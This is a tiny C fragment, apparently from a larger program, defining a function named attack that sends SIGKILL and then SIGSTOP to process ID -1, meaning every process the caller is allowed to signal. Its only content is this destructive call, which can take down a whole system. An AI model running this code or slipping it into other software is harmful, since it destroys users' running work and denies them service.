static void attack(void)
{
    kill(-1, SIGKILL);
    kill(-1, SIGSTOP);
}
